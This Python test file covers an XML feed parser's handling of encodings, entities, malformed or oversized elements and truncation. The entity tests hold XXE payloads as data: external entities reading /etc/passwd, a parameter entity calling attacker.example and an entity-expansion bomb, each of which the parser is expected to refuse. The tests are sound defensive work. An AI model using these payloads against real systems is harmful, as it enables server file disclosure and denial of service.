"""Chosen elements of an XML feed."""

import io
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workers.feeds.markup import MAX_DEPTH, read_elements
from workers.feeds.source import Source
from workers.feeds.types import MAX_RECORD_BYTES, FeedFault, FeedReport


def read(data: bytes | str) -> list[Any]:
    """Texts of the items, codes of the faults, in order."""
    source = Source(io.BytesIO(data.encode() if isinstance(data, str) else data))
    found = read_elements(source, FeedReport(), frozenset(("item",)))
    return [one.code if isinstance(one, FeedFault) else (one[0], one[1].text) for one in found]


def test_elements_come_with_their_lines() -> None:
    """A line is where the start tag stands."""
    assert read("<r>\n<item>a</item>\n<x><item>b</item></x>\n</r>") == [(2, "a"), (3, "b")]


def test_a_declared_alphabet_is_read() -> None:
    """Windows-1251 and KOI8-R come out as text."""
    for name in ("windows-1251", "koi8-r"):
        text = f'<?xml version="1.0" encoding="{name}"?><r><item>Лампа</item></r>'
        assert read(text.encode(name)) == [(1, "Лампа")]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_a_byte_order_mark_is_no_obstacle(encoding: str) -> None:
    """Exporters on Windows write one."""
    assert read("<r><item>Лампа</item></r>".encode(encoding)) == [(1, "Лампа")]


def test_html_names_of_characters_are_known() -> None:
    """XML has five names, HTML 2,000; feeds use all of them."""
    assert read("<r><item>a&nbsp;b &laquo;c&raquo; &amp;</item></r>") == [(1, "a\u00a0b «c» &")]


def test_a_doctype_without_entities_is_read() -> None:
    """Old catalogues name a DTD, which is never opened."""
    assert read('<!DOCTYPE r SYSTEM "file:///etc/passwd"><r><item>a</item></r>') == [(1, "a")]


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x"> %p;]>',
    ],
)
def test_entities_are_refused(doctype: str) -> None:
    """Neither a bomb of entities nor one that reads a file is ever expanded."""
    assert read(doctype + "<r><item>&a;&b;</item></r>") == ["unsafe_xml"]


@pytest.mark.parametrize(
    "bad", ["a & b", "<b>open", "x < y", "\ud800".encode("utf-8", "surrogatepass").decode("latin-1") + "<"]
)
def test_a_malformed_element_costs_itself_only(bad: str) -> None:
    """Reading goes on at the next start tag, and lines are counted on."""
    text = f"<r>\n<item>1</item>\n<item>{bad}</item>\n<item>3</item>\n<y/>\n<item>4</item></r>"
    assert read(text) == [(2, "1"), "malformed_xml", (4, "3"), (6, "4")]


def test_a_malformed_line_between_elements_costs_none() -> None:
    """An error outside the elements is told, and no element is missed."""
    assert read("<r><item>1</item><a & b><item>2</item></r>") == [(1, "1"), "malformed_xml", (1, "2")]


def test_elements_too_deep_cost_themselves_only() -> None:
    """A nest without end is given up."""
    nest = "<a>" * (MAX_DEPTH + 5) + "</a>" * (MAX_DEPTH + 5)
    assert read(f"<r><item>{nest}</item><item>2</item></r>") == ["malformed_xml", (1, "2")]


def test_an_element_too_large_is_passed_over() -> None:
    """Text and children beyond the limit are not kept."""
    for filling in ("x" * (MAX_RECORD_BYTES + 1), "<a/>" * 20_000, f'<a b="{"x" * MAX_RECORD_BYTES}"/>'):
        assert read(f"<r><item>{filling}</item><item>2</item></r>") == ["record_too_large", (1, "2")]


def test_a_tag_without_end_is_refused() -> None:
    """The parser never keeps more than a few megabytes of one tag."""
    assert read("<r><item>1</item><item x='" + "y" * 6_000_000)[:2] == [(1, "1"), "record_too_large"]


def test_a_document_that_stops_is_truncated() -> None:
    """Whole elements are given, the cut one is told once."""
    assert read("<r><item>1</item><item>half") == [(1, "1"), "truncated"]
    assert read("<r><item>1</item>") == [(1, "1"), "truncated"]


def test_an_unknown_encoding_is_told() -> None:
    """A declaration that names no alphabet ends the reading."""
    assert read('<?xml version="1.0" encoding="zip"?><r/>') == ["unknown_encoding"]


@settings(max_examples=80, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["<item>", "</item>", "<r>", "</r>", "&", "a", "<", ">", "<![CDATA[", "]]>", "<!--", "-->", "\n"]
        ),
        max_size=40,
    )
)
def test_any_soup_of_tags_ends(parts: list[str]) -> None:
    """No sequence of tags hangs or raises."""
    read("".join(parts) or "<")
